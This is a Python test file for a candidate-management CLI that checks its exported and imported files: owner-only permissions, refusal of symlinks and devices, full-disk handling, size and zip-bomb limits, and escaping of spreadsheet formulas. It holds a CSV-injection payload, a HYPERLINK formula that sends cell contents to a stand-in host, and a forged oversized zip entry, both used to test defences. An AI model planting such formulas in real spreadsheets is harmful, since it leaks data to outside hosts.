"""Files ptdv writes outside the store (`export -o`, `report -o`) and files given to `import`, as someone
with `ls -l`, a spreadsheet and a full disk sees them: written readable by their owner only (the store's
group too in the store's shared folder), whole or not at all, never through a link; csv cells a spreadsheet
would run as formulas written as text; `import` reads only a plain file, within limits it names, and a row
about a candidate outside one's units says no more than that."""
from __future__ import annotations

import csv
import errno
import io
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from db.errors import PtdvError
from db.i18n import t
from db.service import Service
from db.store import Store
from db.transfer import MAX_BYTES, MAX_ROWS, MAX_UNPACKED, ImportRefused, Limits, size_text
from tui import report_output
from tui.cli import main
from tui.files import csv_cell, csv_text
from tui.transfer_io import read_tables, write

from conftest import TODAY, build_small, caller

CLEAN_ENV = {"PTDV_DB": None, "PTDV_LANG": None, "PTDV_DEBUG": None, "PTDV_IMPORT_MAX_BYTES": None,
             "PTDV_IMPORT_MAX_UNPACKED": None, "PTDV_IMPORT_MAX_ROWS": None}
ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
PM1 = "Phước Mỹ/Chi bộ khu dân cư số 1"


def run(path: Path, *args: str, env: dict | None = None):
    return CliRunner().invoke(main, ["--db", str(path), *args], obj={"today": TODAY}, env={**CLEAN_ENV, **(env or {})})


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def out(tmp_path) -> Path:
    """A folder of one's own, apart from the store's."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


WRITES = [("export", "--format", "csv", "--include-sensitive"), ("export", "--format", "json", "--include-sensitive"),
          ("export", "--format", "xlsx", "--include-sensitive"), ("report", "1", "--year", "2024", "--format", "csv"),
          ("report", "1", "--year", "2024", "--format", "md"), ("report", "1", "--year", "2024", "--format", "json"),
          ("report", "1", "--year", "2024", "--format", "xlsx")]
WRITE_IDS = ["export-csv", "export-json", "export-xlsx", "report-csv", "report-md", "report-json", "report-xlsx"]


def suffix(args: tuple[str, ...]) -> str:
    return "." + args[args.index("--format") + 1]


# -- who may read them ---------------------------------------------------------------------------
@pytest.mark.parametrize("args", WRITES, ids=WRITE_IDS)
def test_an_export_or_a_report_is_readable_by_its_owner_only(small, store_path, out, args):
    target = out / f"ra{suffix(args)}"
    old = os.umask(0o022)  # a usual umask: the old writes came out 0644
    try:
        result = run(store_path, *args, "-o", str(target))
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert mode(target) == 0o600
    replaced = run(store_path, *args, "-o", str(target))  # replacing a file readable by others: 0600 again
    assert replaced.exit_code == 0 and mode(target) == 0o600
    assert sorted(p.name for p in out.iterdir()) == [target.name]  # no temporary file left beside it


def test_in_the_stores_shared_folder_the_group_may_read_elsewhere_only_the_owner(tmp_path):
    shared = tmp_path / "to-chuc"
    shared.mkdir()
    os.chmod(shared, 0o2770)  # a group's folder: setgid
    store_path = shared / "ptdv.json"
    build_small(Service(Store(store_path), today=TODAY))
    assert mode(store_path) == 0o660
    inside, own = shared / "ra.xlsx", tmp_path / "ra.xlsx"
    for target in (inside, own):
        assert run(store_path, "export", "--format", "xlsx", "-o", str(target), "--include-sensitive").exit_code == 0
    assert mode(inside) == 0o640 and inside.stat().st_gid == shared.stat().st_gid
    assert mode(own) == 0o600


# -- never through a link, never half a file ----------------------------------------------------------
@pytest.mark.parametrize("args", [WRITES[0], WRITES[-1]], ids=["export-csv", "report-xlsx"])
def test_a_link_is_refused_and_what_it_points_to_is_untouched(small, store_path, out, args):
    elsewhere = out / "cua-nguoi-khac.txt"
    elsewhere.write_text("giữ nguyên")
    link = out / f"ra{suffix(args)}"
    link.symlink_to(elsewhere)
    result = run(store_path, *args, "-o", str(link))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert t("ui.report.link", path=str(link)) in result.stderr
    assert link.is_symlink() and elsewhere.read_text() == "giữ nguyên"
    assert sorted(p.name for p in out.iterdir()) == sorted([elsewhere.name, link.name])


def fill_the_disk(monkeypatch, folder: Path) -> None:
    """Writes into ``folder`` stop with ENOSPC after a few bytes, as on a full disk (others go through)."""
    real = os.write

    def write(fd: int, data) -> int:
        if not os.readlink(f"/proc/self/fd/{fd}").startswith(str(folder)):
            return real(fd, data)
        if os.fstat(fd).st_size == 0:
            return real(fd, bytes(data[:10]))  # part of it, then the disk is full
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(os, "write", write)


@pytest.mark.parametrize("args", WRITES, ids=WRITE_IDS)
def test_a_full_disk_leaves_nothing_behind_and_says_why(small, store_path, out, monkeypatch, args):
    new, kept = out / f"moi{suffix(args)}", out / f"cu{suffix(args)}"
    kept.write_bytes(b"the last good copy")
    fill_the_disk(monkeypatch, out)
    for target in (new, kept):
        result = run(store_path, *args, "-o", str(target))
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output and "No space" not in result.output
        assert t("ui.report.disk_full", path=str(target)) in result.stderr
    assert sorted(p.name for p in out.iterdir()) == [kept.name]  # no partial file, no temporary file
    assert kept.read_bytes() == b"the last good copy"


def test_a_folder_or_a_device_as_the_file_is_refused_in_the_users_words(small, store_path, out):
    folder = out / "ra.csv"
    folder.mkdir()
    result = run(store_path, "export", "--format", "csv", "-o", str(folder))
    assert result.exit_code == 1 and t("ui.report.is_folder", path=str(folder)) in result.stderr
    fifo = out / "ong.csv"
    os.mkfifo(fifo)
    result = run(store_path, "report", "1", "--year", "2024", "--format", "csv", "-o", str(fifo))
    assert result.exit_code == 1 and t("ui.report.not_a_file", path=str(fifo)) in result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_an_xlsx_export_is_refused_on_the_terminal_as_the_report_is(small, store_path):
    result = run(store_path, "export", "--format", "xlsx")
    assert result.exit_code == 1 and "PK" not in result.stdout
    assert result.stderr.strip().endswith(t("cli.report.xlsx_needs_file"))


# -- formulas ------------------------------------------------------------------------------------
@pytest.fixture
def formulas(small):
    """Candidates whose residence a spreadsheet would run as a formula (or a phone-like text)."""
    service, ids = small
    texts = {"cand1": FORMULA, "cand2": "+84 905 123 456", "cand3": "-tạm trú", "cand4": "@SUM(1+1)",
             "cand5": "'=đã có dấu nháy"}
    for key, text in texts.items():
        service.edit(ids[key], {"residence": text})
    return service, ids, texts


def test_a_csv_export_writes_formulas_as_text_and_import_reads_them_back(formulas, store_path, tmp_path):
    service, ids, texts = formulas
    file = tmp_path / "ra.csv"
    assert run(store_path, "export", "--format", "csv", "-o", str(file)).exit_code == 0
    rows = list(csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"))))
    column = rows[0].index(t("field.residence"))
    cells = {row[0].lstrip("#"): row[column] for row in rows[1:]}
    written = {key: cells[str(ids[key])] for key in texts}
    assert written == {"cand1": "'" + FORMULA, "cand2": "'+84 905 123 456", "cand3": "'-tạm trú",
                       "cand4": "'@SUM(1+1)", "cand5": "''=đã có dấu nháy"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # the same file read back: the store's own texts, nothing changed
    again = run(store_path, "import", str(file), "--dry-run")
    assert again.exit_code == 0, again.output
    assert t("cli.import.summary", sheet=t("export.sheet.candidates"), added=0, changed=0, unchanged=6) in again.output
    assert [row[column] for row in read_tables(file)["candidates"][1:]] == [
        service.candidate(row[0].lstrip("#")).residence for row in rows[1:]]


def test_csv_cells_text_that_looks_like_a_formula_gets_a_quote_numbers_stay_numbers():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-3", "@x", "\tx", "\rx", "An", "'a", -3, 2.5, None)] == [
        "'=1+1", "'+1", "'-3", "'@x", "'\tx", "'\rx", "An", "'a", -3, 2.5, None]
    assert [csv_text(csv_cell(v)) for v in ("=1+1", "'=1", "''=1", "'a", "a")] == ["=1+1", "'=1", "''=1", "'a", "a"]


def a_report_with_a_formula_name(service: Service, ids: dict):
    """A report whose first unit is named like a formula (as a store of before names were checked may hold)
    and has a negative figure."""
    report = service.report(ids["city"], 2024)
    report.rows[0].name = FORMULA
    report.rows[0].admitted = -3
    return report


def test_a_report_csv_writes_a_formula_name_as_text_and_numbers_as_numbers(small):
    service, ids = small
    rows = list(csv.reader(io.StringIO(report_output.as_csv(a_report_with_a_formula_name(service, ids), "vi"))))
    assert rows[1][0] == "'" + FORMULA
    assert rows[1][2] == "-3"


def test_a_formula_looking_name_stays_a_text_cell_in_the_report_xlsx(small):
    service, ids = small
    data = report_output.xlsx_bytes(a_report_with_a_formula_name(service, ids), "vi", TODAY)
    sheet = load_workbook(io.BytesIO(data)).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s"
    assert sheet.cell(cell.row, cell.column + 2).value == -3


def test_a_formula_looking_residence_stays_a_text_cell_in_the_export_xlsx(formulas, store_path, tmp_path):
    file = tmp_path / "ra.xlsx"
    assert run(store_path, "export", "--format", "xlsx", "-o", str(file)).exit_code == 0
    sheet = load_workbook(file)[t("export.sheet.candidates")]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s"


# -- bad files given to import ----------------------------------------------------------------------
def run_ptdv(store_path: Path, *args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """The real command in a process of its own: a read that never ends fails the test instead of hanging it."""
    env = {k: v for k, v in os.environ.items() if k not in CLEAN_ENV}
    return subprocess.run([sys.executable, "-m", "tui.cli", "--db", str(store_path), *args], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=timeout)


def test_a_pipe_named_csv_is_refused_at_once(small, store_path, tmp_path):
    fifo = tmp_path / "x.csv"
    os.mkfifo(fifo)
    result = run_ptdv(store_path, "import", str(fifo), timeout=30)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert t("import.not_a_file", path=str(fifo)) in result.stderr


def test_a_link_to_a_device_named_csv_is_refused(small, store_path, tmp_path):
    link = tmp_path / "x.csv"
    link.symlink_to("/dev/zero")
    result = run_ptdv(store_path, "import", str(link), timeout=30)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert t("import.not_a_file", path=str(link)) in result.stderr


def test_a_folder_named_csv_is_refused_in_the_users_words(small, store_path, tmp_path):
    folder = tmp_path / "x.csv"
    folder.mkdir()
    result = run(store_path, "import", str(folder))
    assert result.exit_code == 1 and t("import.not_a_file", path=str(folder)) in result.stderr


def test_the_limits_have_sane_defaults_and_come_from_the_environment():
    assert Limits() == Limits(MAX_BYTES, MAX_UNPACKED, MAX_ROWS) == Limits.from_env({})
    assert (MAX_BYTES, MAX_UNPACKED, MAX_ROWS) == (50 * 2**20, 500 * 2**20, 300_000)
    assert Limits.from_env({"PTDV_IMPORT_MAX_ROWS": "10", "PTDV_IMPORT_MAX_BYTES": "2048"}) == Limits(
        bytes=2048, rows=10)
    with pytest.raises(PtdvError) as err:
        Limits.from_env({"PTDV_IMPORT_MAX_ROWS": "nhiều"})
    assert err.value.message("en") == "PTDV_IMPORT_MAX_ROWS=nhiều is not a whole number above 0."


def csv_of(tmp_path: Path, count: int) -> Path:
    file = tmp_path / "nhieu.csv"
    names = ["An", "Bình", "Cường", "Dũng", "Giang", "Hà"][:count]
    lines = ["Họ tên,Ngày sinh,Đơn vị"] + [f"Người Tên {name},01/01/1990,{PM1}" for name in names]
    file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return file


def test_a_csv_of_more_rows_than_the_limit_is_refused_naming_it(small, store_path, tmp_path):
    file = csv_of(tmp_path, 4)
    refused = run(store_path, "import", str(file), "--dry-run", env={"PTDV_IMPORT_MAX_ROWS": "3"})
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert t("import.too_many_rows", path=str(file), limit=3) in refused.stderr
    taken = run(store_path, "import", str(file), "--dry-run", env={"PTDV_IMPORT_MAX_ROWS": "4"})
    assert taken.exit_code == 0, taken.output


def test_a_file_larger_than_the_limit_is_refused_naming_it(small, store_path, tmp_path):
    file = csv_of(tmp_path, 4)
    refused = run(store_path, "--lang", "en", "import", str(file), env={"PTDV_IMPORT_MAX_BYTES": "100"})
    assert refused.exit_code == 1
    assert t("import.too_big", "en", path=str(file), limit="100 B") in refused.stderr
    assert size_text(MAX_BYTES) == "50 MB"


def test_a_row_of_too_many_cells_is_refused(tmp_path):
    file = tmp_path / "rong.csv"
    file.write_text("Họ tên," + ",".join(["x"] * 10) + "\n", encoding="utf-8")
    with pytest.raises(PtdvError) as err:
        read_tables(file, Limits(columns=5))
    assert err.value.key == "import.too_many_columns"


def test_an_xlsx_unpacking_past_the_limit_is_refused_naming_it(small, tmp_path):
    service, _ = small
    file = tmp_path / "ra.xlsx"
    file.write_bytes(write(service.export(include_sensitive=True), "xlsx", "vi"))
    unpacked = sum(i.file_size for i in zipfile.ZipFile(file).infolist())
    assert set(read_tables(file, Limits(unpacked=unpacked))) == {"units", "quotas", "candidates"}
    with pytest.raises(PtdvError) as err:
        read_tables(file, Limits(unpacked=unpacked - 1))
    assert err.value.message("vi") == t("import.too_big_unpacked", path=str(file), limit=f"{unpacked - 1} B")


def test_a_zip_declaring_a_huge_part_is_refused_without_unpacking_it(small, store_path, tmp_path, monkeypatch):
    """A bomb: a small file whose part says it unpacks to 600 MB; it is refused before a byte is unpacked."""
    service, _ = small
    data = bytearray(write(service.export(), "xlsx", "vi"))
    huge = (600 * 2**20).to_bytes(4, "little")
    at = data.index(b"PK\x01\x02")  # the first part's central directory entry: its size at +24
    data[at + 24:at + 28] = huge
    file = tmp_path / "bom.xlsx"
    file.write_bytes(bytes(data))
    assert zipfile.ZipFile(file).infolist()[0].file_size == 600 * 2**20

    def unpack(*args, **kwargs):
        raise AssertionError("a part was unpacked")
    monkeypatch.setattr(zipfile.ZipFile, "open", unpack)
    result = run(store_path, "import", str(file))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert t("import.too_big_unpacked", path=str(file), limit="500 MB") in result.stderr


def test_a_file_that_is_not_a_zip_named_xlsx_is_unreadable_not_a_crash(small, store_path, tmp_path):
    file = tmp_path / "gia.xlsx"
    file.write_bytes(b"not a zip at all")
    result = run(store_path, "import", str(file))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert t("import.unreadable", path=str(file), detail="File is not a zip file") in result.stderr


# -- a row about someone else's candidate ------------------------------------------------------------
def test_an_id_of_a_candidate_outside_ones_units_says_only_that(store_path):
    boss = Service(Store(store_path), caller=caller("boss"), today=TODAY)
    ids = build_small(boss)
    boss.add_user("bob", ids["an_hai_bac"], "editor")
    bob = Service(Store(store_path), caller=caller("bob"), today=TODAY)
    cand = boss.candidate(ids["cand1"])  # of Phước Mỹ, which bob does not cover
    branch = "An Hải Bắc/Chi bộ khu dân cư số 1"  # bob's own
    for name, born in (("Người Khác", "09/09/1999"), (cand.name, cand.born.strftime("%d/%m/%Y"))):
        with pytest.raises(ImportRefused) as err:
            bob.import_candidates([["Mã", "Họ tên", "Ngày sinh", "Đơn vị"], [str(cand.id), name, born, branch]])
        assert [(row, e.key) for _, row, e in err.value.bad] == [(2, "import.outside_scope")]
        for lang in ("vi", "en"):
            said = err.value.message(lang)
            assert t("import.outside_scope", lang, id=cand.id) in said
            assert "Phước Mỹ" not in said and cand.name not in said
